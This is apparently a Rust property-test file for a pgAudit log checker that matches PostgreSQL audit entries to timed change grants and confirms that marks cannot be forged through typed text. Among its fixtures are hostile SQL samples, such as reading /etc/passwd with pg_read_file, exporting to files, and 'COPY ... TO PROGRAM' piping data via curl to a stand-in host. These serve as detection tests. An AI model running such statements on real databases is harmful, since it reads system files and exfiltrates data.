//! Nobody gets a mark by what they type, and no mark changes a verdict.

use proptest::prelude::*;
use proptest::sample::select;

use crate::judge::{Judge, Rules, Scratch, Verdict};

const GRANTS: &str = r#""grants": [
    {"id": "CHG-1", "users": ["alice"], "databases": ["shop"], "relations": [["public", "orders"], ["odd name", "t.x"]],
     "kinds": ["read"], "from": "2026-12-02T14:00:00Z", "until": "2026-12-02T16:00:00Z"},
    {"id": "CHG-2", "users": ["alice", "bob"], "relations": [["app", null]],
     "kinds": ["write", "schema"], "from": "2026-12-02T14:00:00Z", "until": "2026-12-02T15:00:00Z"},
    {"id": "CHG-3", "users": ["alice", "bob"], "relations": [["app", "items"]],
     "kinds": ["write"], "from": "2026-12-02T14:00:00Z", "until": "2026-12-02T17:00:00Z"}],
    "never_expected": [{"command": ["TRUNCATE TABLE"], "schema": ["app"]}, {"user": ["carol"]}]"#;

const EXCLUSION: &str =
    r#"{"id": "probe", "match": {"class": ["READ"], "statement": {"equals": ["select 1"]}}}"#;

fn rules(grants: &str) -> Rules {
    let comma = if grants.is_empty() { "" } else { ", " };
    let text = format!(
        r#"{{"format": 1, "log_line_prefix": "%m:%r:%u@%d:[%p]:%l:%e:%s:%v:%x:%c:%q%a:", "signals": ["dml", "schema"],
            "service_accounts": [{{"role": "shop_api"}}], "protected_users": [], "exclusions": [{EXCLUSION}]{comma}{grants}}}"#
    );
    Rules::from_bytes(text.as_bytes()).expect("rules")
}

/// What the server writes of a record.
#[derive(Clone, Copy, Debug)]
struct Fields<'a> {
    time: &'a str,
    user: &'a str,
    database: &'a str,
    class: &'a str,
    command: &'a str,
    kind: &'a str,
    object: &'a str,
}

const COVERED: Fields<'static> = Fields {
    time: "2026-12-02 14:30:00.000 UTC",
    user: "alice",
    database: "shop",
    class: "READ",
    command: "SELECT",
    kind: "TABLE",
    object: "public.orders",
};

/// As PostgreSQL and pgAudit write it: quotes of CSV around what needs them.
fn entry(fields: Fields<'_>, application: &str, statement: &str) -> Vec<u8> {
    let Fields {
        time,
        user,
        database,
        class,
        command,
        kind,
        object,
    } = fields;
    let csv = |text: &str| {
        if text.contains(['"', ',', '\n', '\r']) {
            format!("\"{}\"", text.replace('"', "\"\""))
        } else {
            text.to_owned()
        }
    };
    // The server puts a tab before each further line of a message.
    let body = format!(
        "AUDIT: SESSION,7,1,{class},{command},{kind},{},{},<not logged>",
        csv(object),
        csv(statement)
    )
    .replace('\n', "\n\t");
    format!(
        "{time}:10.0.0.1(5000):{user}@{database}:[1]:1:00000:2026-12-02 08:00:00 UTC:3/4:0:6b02.6579:{application}:LOG:  {body}"
    )
    .into_bytes()
}

fn mark(rules: &Rules, entry: &[u8]) -> Option<String> {
    let judge = Judge::new(rules);
    let judged = judge.judge(&mut Scratch::default(), entry);
    judged.expected.map(|expected| expected.grant)
}

#[test]
fn a_grant_marks_what_its_fields_say_and_nothing_else() {
    let rules = rules(GRANTS);
    let of = |fields| mark(&rules, &entry(fields, "psql", "select * from orders"));
    let marked = |id: &str| Some(id.to_owned());
    assert_eq!(of(COVERED), marked("CHG-1"));
    for fields in [
        Fields {
            time: "2026-12-02 13:59:59.999 UTC",
            ..COVERED
        },
        Fields {
            time: "2026-12-02 16:00:00.000 UTC",
            ..COVERED
        },
        // A zone that does not name one offset.
        Fields {
            time: "2026-12-02 14:30:00.000 CST",
            ..COVERED
        },
        Fields {
            user: "bob",
            ..COVERED
        },
        Fields {
            user: "Alice",
            ..COVERED
        },
        Fields {
            database: "shop2",
            ..COVERED
        },
        Fields {
            class: "WRITE",
            command: "DELETE",
            ..COVERED
        },
        Fields {
            class: "FUNCTION",
            command: "SELECT",
            ..COVERED
        },
        Fields {
            class: "MISC",
            command: "SELECT",
            ..COVERED
        },
        Fields {
            class: "ROLE",
            command: "GRANT",
            ..COVERED
        },
        Fields {
            kind: "",
            ..COVERED
        },
        Fields {
            kind: "FUNCTION",
            ..COVERED
        },
        Fields {
            kind: "TABLE COLUMN",
            ..COVERED
        },
        Fields {
            object: "",
            ..COVERED
        },
        Fields {
            object: "orders",
            ..COVERED
        },
        Fields {
            object: "public.orders.id",
            ..COVERED
        },
        Fields {
            object: "public.orders_old",
            ..COVERED
        },
        Fields {
            object: "Public.orders",
            ..COVERED
        },
        Fields {
            object: "\"public.orders\"",
            ..COVERED
        },
        Fields {
            object: "\"public.orders\".x",
            ..COVERED
        },
        Fields {
            object: "odd name.t.x",
            ..COVERED
        },
        Fields {
            object: "trg on public.orders",
            ..COVERED
        },
    ] {
        assert_eq!(of(fields), None, "{fields:?}");
    }
    for fields in [
        Fields {
            time: "2026-12-02 14:00:00.000 UTC",
            ..COVERED
        },
        Fields {
            time: "2026-12-02 15:59:59.999 UTC",
            ..COVERED
        },
        Fields {
            time: "2026-12-02 16:30:00.000 +01",
            ..COVERED
        },
        Fields {
            kind: "MATERIALIZED VIEW",
            ..COVERED
        },
        Fields {
            object: "\"public\".\"orders\"",
            ..COVERED
        },
        Fields {
            object: "\"odd name\".\"t.x\"",
            ..COVERED
        },
    ] {
        assert_eq!(of(fields), marked("CHG-1"), "{fields:?}");
    }
    let write = Fields {
        class: "WRITE",
        command: "UPDATE",
        object: "app.items",
        user: "bob",
        database: "any",
        ..COVERED
    };
    // The one that ends last.
    assert_eq!(of(write), marked("CHG-3"));
    assert_eq!(
        of(Fields {
            object: "app.others",
            ..write
        }),
        marked("CHG-2")
    );
    assert_eq!(
        of(Fields {
            class: "DDL",
            command: "ALTER TABLE",
            ..write
        }),
        marked("CHG-2")
    );
    assert_eq!(
        of(Fields {
            command: "TRUNCATE TABLE",
            ..write
        }),
        None
    );
}

#[test]
fn what_is_silent_refused_or_names_audit_settings_has_no_mark() {
    let rules = rules(GRANTS);
    let of = |application, statement| mark(&rules, &entry(COVERED, application, statement));
    assert_eq!(of("psql", "select 2"), Some("CHG-1".to_owned()));
    assert_eq!(of("psql", "select 1"), None);
    assert_eq!(of("psql", "select 2 /* pgaudit.log */"), None);
    assert_eq!(of("pgaudit", "select 2"), None);
    let refused = "2026-12-02 14:30:00.000 UTC:10.0.0.1(5000):alice@shop:[1]:1:00000:2026-12-02 08:00:00 UTC:3/4:0:6b02.6579:psql:\
                   ERROR:  permission denied for table orders";
    let mut with_denied = rules.clone();
    with_denied.signals = crate::policy::model::Signal::ALL.to_vec();
    let judge = Judge::new(&with_denied);
    let judged = judge.judge(&mut Scratch::default(), refused.as_bytes());
    assert_eq!((judged.verdict, judged.expected), (Verdict::Counted, None));
}

#[test]
fn a_mark_is_not_remembered_from_one_time_to_another() {
    let judge = Judge::new(&rules(GRANTS));
    let mut scratch = Scratch::default();
    let early = entry(COVERED, "psql", "select 2");
    let late = entry(
        Fields {
            time: "2026-12-02 16:00:00.000 UTC",
            ..COVERED
        },
        "psql",
        "select 2",
    );
    for _ in 0..3 {
        assert!(judge.judge(&mut scratch, &early).expected.is_some());
        assert!(judge.expects(&early).is_some());
        assert!(judge.judge(&mut scratch, &late).expected.is_none());
        assert!(judge.expects(&late).is_none());
    }
    // Entries that are alike: each of them has to be in time.
    let ms = |text: &[u8]| crate::audit_log::timestamp::fast_epoch_ms(text).expect("a time");
    let between = |scratch: &mut Scratch, first, last| {
        judge
            .judge_between(scratch, &early, (first, last))
            .expected
            .is_some()
    };
    assert!(between(&mut scratch, ms(&early), ms(&late) - 1));
    assert!(!between(&mut scratch, ms(&early), ms(&late)));
    assert!(!between(&mut scratch, ms(&early) - 3_600_000, ms(&early)));
}

#[test]
fn explain_names_the_first_condition_that_fails() {
    let judge = Judge::new(&rules(GRANTS));
    let answers = |fields| -> Vec<(String, Option<&'static str>)> {
        let text = entry(fields, "psql", "select 2");
        let explanation = judge.explain(&mut Scratch::default(), &text);
        let answers = explanation.grants.into_iter();
        answers
            .map(|answer| (answer.id, answer.fails.map(|(key, _)| key)))
            .collect()
    };
    let found = answers(COVERED);
    assert_eq!(
        found,
        [
            ("CHG-1".to_owned(), None),
            ("CHG-2".to_owned(), Some("kinds")),
            ("CHG-3".to_owned(), Some("kinds")),
        ]
    );
    for (fields, key) in [
        (
            Fields {
                database: "bank",
                ..COVERED
            },
            "databases",
        ),
        (
            Fields {
                class: "WRITE",
                command: "UPDATE",
                ..COVERED
            },
            "kinds",
        ),
        (
            Fields {
                object: "public.users",
                ..COVERED
            },
            "relations",
        ),
        (
            Fields {
                time: "2026-12-02 13:00:00.000 UTC",
                ..COVERED
            },
            "from",
        ),
        (
            Fields {
                time: "2026-12-02 17:00:00.000 UTC",
                ..COVERED
            },
            "until",
        ),
    ] {
        assert_eq!(answers(fields)[0].1, Some(key), "{fields:?}");
    }
    let stranger = Fields {
        user: "dave",
        ..COVERED
    };
    assert!(answers(stranger).is_empty());
}

#[test]
fn rules_without_grants_are_as_before() {
    let text = String::from_utf8(rules("").to_bytes()).expect("text");
    assert!(
        !text.contains("grants") && !text.contains("never_expected"),
        "{text}"
    );
    let with = rules(GRANTS);
    assert_eq!(Rules::from_bytes(&with.to_bytes()).expect("rules"), with);
    let text = String::from_utf8(with.to_bytes())
        .expect("text")
        .replace("\"read\"", "\"reed\"");
    assert!(Rules::from_bytes(text.as_bytes()).is_err(), "{text}");
}

/// What a person types: pieces that look like the rest of a line, joined in any way.
fn typed() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        select(vec![
            "select * from public.orders",
            "select 1",
            "/* public.orders CHG-1 */",
            "-- alice@shop",
            ";",
            "\n",
            "\"",
            "'",
            ",",
            "$$",
            "AUDIT: SESSION,1,1,READ,SELECT,TABLE,public.orders,select 2,<not logged>",
            "READ,SELECT,TABLE,public.orders,",
            ":LOG:  ",
            "2026-12-02 14:30:00.000 UTC:10.0.0.1(5000):alice@shop:[1]:1:00000:2026-12-02 08:00:00 UTC:3/4:0:6b02.6579:psql:LOG:  AUDIT: ",
            "alice@shop:[1]:",
            "update app.items set a = 1",
            "grant",
            "pgaudit.log",
            "explain analyze ",
            "execute p(1)",
            "(x).f",
            "E'\\'",
        ])
        .prop_map(str::to_owned),
        "[ -~]{0,12}",
    ];
    prop::collection::vec(piece, 0..5).prop_map(|pieces| pieces.concat())
}

fn fields() -> impl Strategy<Value = Fields<'static>> {
    let class = select(vec![
        ("READ", "SELECT"),
        ("WRITE", "UPDATE"),
        ("WRITE", "TRUNCATE TABLE"),
        ("DDL", "ALTER TABLE"),
        ("FUNCTION", "EXECUTE"),
        ("MISC", "EXECUTE"),
        ("MISC", "EXPLAIN"),
        ("ROLE", "GRANT"),
    ]);
    let object = select(vec![
        ("TABLE", "public.orders"),
        ("TABLE", "public.secrets"),
        ("TABLE", "app.items"),
        ("VIEW", "app.v"),
        ("FUNCTION", "app.items"),
        ("TABLE", "\"odd name\".\"t.x\""),
        ("TABLE", "\"public.orders\""),
        ("", ""),
    ]);
    let time = select(vec![
        "2026-12-02 14:30:00.000 UTC",
        "2026-12-02 15:30:00.000 UTC",
        "2026-12-02 16:30:00.000 UTC",
        "2026-12-03 14:30:00.000 UTC",
    ]);
    let user = select(vec!["alice", "bob", "carol", "shop_api", "dave"]);
    (class, object, time, user, select(vec!["shop", "bank"])).prop_map(
        |((class, command), (kind, object), time, user, database)| Fields {
            time,
            user,
            database,
            class,
            command,
            kind,
            object,
        },
    )
}

/// Which grant the fields alone allow, written again without the code of the judge.
fn allowed(fields: Fields<'_>) -> Option<&'static str> {
    let Fields {
        time,
        user,
        database,
        class,
        command,
        kind,
        object,
    } = fields;
    let hour: &str = &time[..13];
    if !["TABLE", "VIEW"].contains(&kind) {
        return None;
    }
    let is_read = class == "READ";
    let orders = ["public.orders", "\"odd name\".\"t.x\""].contains(&object);
    if user == "alice" && database == "shop" && is_read && orders {
        return ["2026-12-02 14", "2026-12-02 15"]
            .contains(&hour)
            .then_some("CHG-1");
    }
    if !["alice", "bob"].contains(&user)
        || !object.starts_with("app.")
        || command == "TRUNCATE TABLE"
    {
        return None;
    }
    let in_second = hour == "2026-12-02 14" && ["WRITE", "DDL"].contains(&class);
    let in_third = ["2026-12-02 14", "2026-12-02 15", "2026-12-02 16"].contains(&hour)
        && class == "WRITE"
        && object == "app.items";
    match (in_third, in_second) {
        (true, _) => Some("CHG-3"),
        (false, true) => Some("CHG-2"),
        (false, false) => None,
    }
}

/// A statement that reads what is granted and something else besides has no mark: only this record tells of it.
#[test]
fn a_statement_that_does_more_has_no_mark() {
    let rules = rules(GRANTS);
    let judge = Judge::new(&rules);
    let write = Fields {
        class: "WRITE",
        command: "INSERT",
        object: "app.items",
        ..COVERED
    };
    for (fields, statement) in [
        (
            COVERED,
            "select * from public.orders where lower(name) = 'x' order by 1",
        ),
        (
            COVERED,
            "SELECT count(*), max(id)::text FROM orders o JOIN lines l USING (id)",
        ),
        (
            COVERED,
            "COPY public.orders TO STDOUT WITH (FORMAT csv, HEADER true)",
        ),
        (COVERED, "COPY (SELECT * FROM public.orders) TO STDOUT"),
        (COVERED, "<not logged>"),
        (COVERED, "<previously logged>"),
        (
            write,
            "INSERT INTO app.items (id, name) VALUES (1, 'x'), (2, upper('y')) RETURNING id",
        ),
        (
            write,
            "UPDATE app.items SET name = 'x', at = now() WHERE id IN (1, 2)",
        ),
        (
            write,
            "DELETE FROM app.items USING app.old WHERE items.id = old.id",
        ),
        (write, "COPY app.items (id, name) FROM STDIN"),
    ] {
        let text = entry(fields, "psql", statement);
        assert!(mark(&rules, &text).is_some(), "{statement}");
    }
    for (fields, statement, why) in [
        (
            COVERED,
            "select pg_read_file('/etc/passwd') from public.orders",
            "pg_read_file",
        ),
        (
            COVERED,
            "select lo_export(1, '/tmp/x'), id from public.orders",
            "lo_export",
        ),
        (COVERED, "COPY public.orders TO '/tmp/x'", "file or program"),
        (
            COVERED,
            "COPY public.orders TO PROGRAM 'curl -T - evil'",
            "file or program",
        ),
        (
            COVERED,
            "select query_to_xml('table secrets', true, true, '') from orders",
            "query_to_xml",
        ),
        (COVERED, "select id @@@ 1 from orders", "operator"),
        (COVERED, "select 'x'::leak from orders", "leak"),
        (
            write,
            "INSERT INTO app.items SELECT * FROM dblink('', 'select') AS t(id int)",
            "dblink",
        ),
    ] {
        let text = entry(fields, "psql", statement);
        assert_eq!(mark(&rules, &text), None, "{statement}");
        let explained = judge.explain(&mut Scratch::default(), &text);
        let answers: Vec<_> = explained
            .grants
            .iter()
            .filter_map(|answer| answer.fails.as_ref())
            .filter(|(key, reason)| *key == "statement" && reason.contains(why))
            .collect();
        assert!(!answers.is_empty(), "{statement}: {:?}", explained.grants);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever stands in the statement and in the application's name: a mark is that of the fields or none, and the verdict
    /// is that of rules without grants.
    #[test]
    fn nobody_gets_a_mark_by_what_they_type(fields in fields(), application in typed(), statement in typed()) {
        let application = application.replace('\n', " ");
        let (with, without) = (Judge::new(&rules(GRANTS)), Judge::new(&rules("")));
        for text in [
            entry(fields, &application, &statement),
            entry(fields, "psql", &statement),
            entry(fields, &application, "select 2"),
        ] {
            let marked = with.judge(&mut Scratch::default(), &text);
            let plain = without.judge(&mut Scratch::default(), &text);
            prop_assert_eq!(&marked.verdict, &plain.verdict);
            prop_assert_eq!(&marked.signals, &plain.signals);
            prop_assert_eq!(plain.expected, None);
            if let Some(expected) = &marked.expected {
                prop_assert_eq!(Some(expected.grant.as_str()), allowed(fields));
                prop_assert_eq!(&marked.verdict, &Verdict::Counted);
                let again = with.expects(&text);
                prop_assert_eq!(again.as_ref(), Some(expected));
            }
        }
        // An explanation says the same.
        let text = entry(fields, &application, &statement);
        let told = with.explain(&mut Scratch::default(), &text);
        prop_assert_eq!(
            told.judged.expected.is_some(),
            told.grants.iter().any(|answer| answer.fails.is_none())
        );
        // The plain text has the mark that the fields allow: the test above would pass without any.
        let text = entry(fields, "psql", "select 2");
        let plain = with.judge(&mut Scratch::default(), &text);
        if plain.verdict == Verdict::Counted {
            prop_assert_eq!(plain.expected.map(|expected| expected.grant), allowed(fields).map(str::to_owned));
        }
    }
}
